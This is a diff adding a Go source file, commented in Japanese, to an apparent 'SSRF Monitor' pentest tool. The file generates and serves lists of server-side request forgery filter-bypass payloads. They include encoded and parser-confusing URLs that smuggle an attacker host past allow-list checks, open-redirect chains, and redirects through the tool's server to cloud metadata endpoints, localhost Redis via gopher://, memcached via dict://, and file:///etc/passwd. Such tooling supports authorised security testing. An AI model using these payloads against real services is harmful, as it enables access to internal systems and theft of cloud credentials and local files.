@@ -0,0 +1,171 @@
+package main
+
+import (
+	"fmt"
+	"html/template"
+	"net"
+	"net/http"
+	"net/url"
+	"strings"
+)
+
+// allowedHostPlaceholder は標的が許可しているホスト名の代わりに埋める値。?allow= で置き換えられる
+const allowedHostPlaceholder = "allowed.example.com"
+
+// dnsAnswerIP は -dns-ip。IP 表記のペイロードに使う
+var dnsAnswerIP string
+
+// payload は貼り付け用のペイロード 1 件
+type payload struct {
+	Name  string `json:"name"`
+	Value string `json:"value"`
+}
+
+// payloadGroup は手法ごとのまとまり
+type payloadGroup struct {
+	Name     string    `json:"name"`
+	Payloads []payload `json:"payloads"`
+}
+
+// serverIPv4 はペイロードに使うこのサーバーの IPv4 アドレス。-dns-ip、ドメインが IP ならそれ、なければ名前解決した結果
+func serverIPv4() net.IP {
+	if ip := net.ParseIP(dnsAnswerIP).To4(); ip != nil {
+		return ip
+	}
+	ips, _ := net.LookupIP(domainHost())
+	for _, ip := range ips {
+		if ip4 := ip.To4(); ip4 != nil {
+			return ip4
+		}
+	}
+	return nil
+}
+
+// percentEncodeAll は全ての文字を %XX にする。ホスト名の文字列比較だけをしている検査を抜けるのに使う
+func percentEncodeAll(s string) string {
+	var b strings.Builder
+	for i := 0; i < len(s); i++ {
+		fmt.Fprintf(&b, "%%%02X", s[i])
+	}
+	return b.String()
+}
+
+// ssrfPayloads は token 宛てに届く SSRF のフィルター回避用のペイロードを組み立てる。allow は標的が許可しているホスト名
+func ssrfPayloads(token, allow string) []payloadGroup {
+	host := token + "." + serverDomain
+	base := "http://" + host + "/"
+	path := "http://" + serverDomain + "/t/" + token
+	port := ""
+	if _, p, err := net.SplitHostPort(serverDomain); err == nil {
+		port = ":" + p
+	}
+	hostname := token + "." + domainHost()
+
+	groups := []payloadGroup{
+		{"基本", []payload{
+			{"サブドメイン", base},
+			{"パス", path},
+			{"HTTPS", "https://" + host + "/"},
+			{"スキーム省略", "//" + host + "/"},
+			{"DNS のみ", hostname},
+		}},
+		{"URL エンコード", []payload{
+			{"パラメーター用", url.QueryEscape(base)},
+			{"二重エンコード", url.QueryEscape(url.QueryEscape(base))},
+			{"ホストを全てエンコード", "http://" + percentEncodeAll(hostname) + port + "/"},
+		}},
+		{"userinfo・パーサーの差異", []payload{
+			{"@ の前に許可ホスト", "http://" + allow + "@" + host + "/"},
+			{"# の後ろに許可ホスト", "http://" + host + "#@" + allow + "/"},
+			{"? の後ろに許可ホスト", "http://" + host + "?@" + allow + "/"},
+			{"& と # の組み合わせ", "http://" + allow + "&@" + host + "#@" + allow + "/"},
+			{"\\ で区切る", "http://" + allow + "\\@" + host + "/"},
+			{"許可ホストをサブドメインに", "http://" + allow + "." + host + "/"},
+		}},
+		{"リダイレクト", []payload{
+			{"許可ホストのオープンリダイレクト経由", "https://" + allow + "/redirect?url=" + url.QueryEscape(base)},
+			{"許可ホストのオープンリダイレクト経由（スキーム省略）", "https://" + allow + "/login?next=//" + host + "/"},
+			{"このサーバー経由でメタデータへ", base + "redirect?to=" + url.QueryEscape("http://169.254.169.254/latest/meta-data/")},
+			{"このサーバー経由で localhost へ（307）", base + "redirect?code=307&to=" + url.QueryEscape("http://127.0.0.1/")},
+			{"このサーバー経由で gopher:// へ", base + "redirect?to=" + url.QueryEscape("gopher://127.0.0.1:6379/_INFO%0D%0A")},
+			{"このサーバー経由で file:// へ", base + "redirect?to=" + url.QueryEscape("file:///etc/passwd")},
+			{"このサーバー経由で dict:// へ", base + "redirect?to=" + url.QueryEscape("dict://127.0.0.1:11211/stats")},
+		}},
+	}
+	if ip := serverIPv4(); ip != nil {
+		var forms []payload
+		for _, f := range ipForms(ip) {
+			forms = append(forms, payload{f.Name, "http://" + urlHost(f.Value) + port + "/t/" + token})
+		}
+		groups = append(groups, payloadGroup{"IP 表記", forms})
+	}
+	return groups
+}
+
+var payloadsTmpl = template.Must(template.New("payloads").Parse(`<!DOCTYPE html>
+<html lang="ja">
+<head>
+    <title>ペイロード - SSRF Monitor</title>
+    <meta charset="utf-8">
+    <style>
+        body { font-family: -apple-system, BlinkMacSystemFont, "Segoe UI", Roboto, sans-serif; background: #f0f2f5; padding: 20px; color: #1c1e21; }
+        .container { max-width: 1200px; margin: 0 auto; }
+        .card { background: #fff; border-radius: 12px; margin-bottom: 20px; padding: 20px; box-shadow: 0 2px 8px rgba(0,0,0,0.08); }
+        table { width: 100%; border-collapse: collapse; font-size: 14px; }
+        td { padding: 6px; border-top: 1px solid #eee; vertical-align: top; }
+        code { word-break: break-all; }
+        input { padding: 8px 12px; border: 1px solid #ddd; border-radius: 6px; font-size: 14px; }
+        button { padding: 5px 10px; border: 1px solid #ddd; border-radius: 6px; background: #f0f2f5; cursor: pointer; font-size: 12px; font-weight: 600; }
+    </style>
+</head>
+<body>
+    <div class="container">
+        <div class="card">
+            <a href="/admin">← 管理画面</a>
+            <h1 style="font-size: 24px;">ペイロード</h1>
+            <form>
+                <input name="token" value="{{.Token}}" placeholder="相関トークン">
+                <input name="allow" value="{{.Allow}}" placeholder="許可されたホスト">
+                <button type="submit">更新</button>
+                <a href="?token={{.Token}}&allow={{.Allow}}&format=json">JSON</a>
+            </form>
+        </div>
+        {{range .Groups}}
+        <div class="card">
+            <h3 style="margin-top: 0;">{{.Name}}</h3>
+            <table>
+                {{range .Payloads}}
+                <tr>
+                    <td style="width: 220px;">{{.Name}}</td>
+                    <td><code>{{.Value}}</code></td>
+                    <td style="width: 60px;"><button onclick="navigator.clipboard.writeText(this.parentNode.previousElementSibling.textContent)">コピー</button></td>
+                </tr>
+                {{end}}
+            </table>
+        </div>
+        {{end}}
+    </div>
+</body>
+</html>
+`))
+
+// handlePayloads は /admin/payloads?token=&allow= で token 宛てのペイロードを表示する。format=json か /api/payloads なら JSON で返す。
+// token を省略すると "ssrf" を相関 ID に使う
+func handlePayloads(w http.ResponseWriter, r *http.Request) {
+	q := r.URL.Query()
+	token := strings.ToLower(strings.TrimSpace(q.Get("token")))
+	if token == "" {
+		token = "ssrf"
+	}
+	allow := strings.TrimSpace(q.Get("allow"))
+	if allow == "" {
+		allow = allowedHostPlaceholder
+	}
+	groups := ssrfPayloads(token, allow)
+	if q.Get("format") == "json" || strings.HasPrefix(r.URL.Path, "/api/") {
+		writeJSON(w, map[string]any{"token": token, "groups": groups})
+		return
+	}
+	w.Header().Set("Content-Type", "text/html; charset=utf-8")
+	payloadsTmpl.Execute(w, map[string]any{"Token": token, "Allow": allow, "Groups": groups})
+}